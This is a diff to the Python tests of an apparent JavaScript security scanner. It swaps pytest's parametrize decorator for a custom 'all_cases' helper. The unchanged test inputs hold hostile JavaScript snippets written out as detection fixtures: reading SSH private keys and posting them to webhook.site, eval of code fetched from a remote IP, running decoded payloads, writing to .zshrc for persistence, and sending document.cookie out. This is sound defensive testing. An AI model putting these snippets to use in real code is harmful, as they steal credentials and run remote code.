@@ -8,6 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.cases import all_cases
 from tests.timing import taking_less_than
 from vskill_platform.scan.facts.facts import Act, Fact
 from vskill_platform.scan.facts.hosts import HostClass
@@ -32,7 +33,7 @@ def one(code: str, act: Act) -> Fact:
     return found[0]
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         "fetch('https://files.example-cdn.net/a')",
@@ -50,7 +51,7 @@ def test_a_download_is_found_with_its_host(code: str) -> None:
     assert one(code, Act.FETCH).host == "files.example-cdn.net"
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "kind"),
     [
         ("fetch('https://webhook.site/0', {method: 'POST', body: data})", HostClass.CALLBACK),
@@ -67,7 +68,7 @@ def test_sending_is_found_with_the_kind_of_host(code: str, kind: HostClass) -> N
     assert one(code, Act.SEND).host_class is kind
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         "eval(await (await fetch('http://203.0.113.7/a')).text())",
@@ -86,7 +87,7 @@ def test_running_what_was_fetched_is_found_with_its_host(code: str) -> None:
     assert one(code, Act.RUN_REMOTE).host == "203.0.113.7"
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"eval(atob('{ENCODED}'))",
@@ -106,7 +107,7 @@ def test_running_what_was_decoded_shows_the_plain_text(code: str) -> None:
     assert one(code, Act.RUN_DECODED).detail == PLAIN
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "detail"),
     [
         ("const fs = require('fs'), os = require('os'), path = require('path');\nfs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "ssh keys"),
@@ -163,7 +164,7 @@ def test_an_environment_for_a_process_is_no_reading_of_it(code: str) -> None:
 READ_KEY = "const fs = require('fs'); const k = fs.readFileSync('/home/ada/.ssh/id_rsa', 'utf8');\n"
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "detail"),
     [
         (READ_KEY + "fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify({k})});", "ssh keys"),
@@ -196,7 +197,7 @@ def test_a_key_that_goes_to_its_own_service_is_no_leak(code: str) -> None:
     assert Act.LEAK not in acts(read_javascript(code))
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "act", "detail"),
     [
         ("const fs = require('fs'), os = require('os'); fs.appendFileSync(os.homedir() + '/.zshrc', x)", Act.WRITE, "runs in every shell"),
@@ -252,7 +253,7 @@ def test_commands_for_a_shell_are_read_by_the_shell_reader(code: str, act: Act) 
     assert act in acts(read_javascript(code))
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         "const m = /a(b)/.exec(text); const r = new RegExp('a'); r.exec(x);",
@@ -312,7 +313,7 @@ def test_the_line_and_the_text_are_those_of_the_act() -> None:
     assert (fact.line, fact.text) == (5, "eval(y); // now")
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         "eval(" * 5000 + ")" * 5000,
@@ -351,7 +352,7 @@ def test_no_text_makes_the_reader_fail(pieces: list[str], typescript: bool) -> N
     assert all(fact.line >= 1 for fact in facts)
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         "const go = async (a: string, b?: Map<string, number[]>): Promise<void> => { eval(x); };",
@@ -372,7 +373,7 @@ def test_types_hide_nothing(code: str) -> None:
     assert [fact.act for fact in facts] == [Act.RUN_DYNAMIC]
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         "const a = /['\"`]/.test(b) ? 1 / 2 : 3; eval(x);",
@@ -402,7 +403,7 @@ def test_no_form_of_the_language_hides_what_stands_in_it(code: str) -> None:
     assert [fact.act for fact in facts] == [Act.RUN_DYNAMIC]
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "act"),
     [
         ("const x = new XMLHttpRequest(); x.open('POST', 'https://webhook.site/0'); x.send(document.cookie)", Act.SEND),
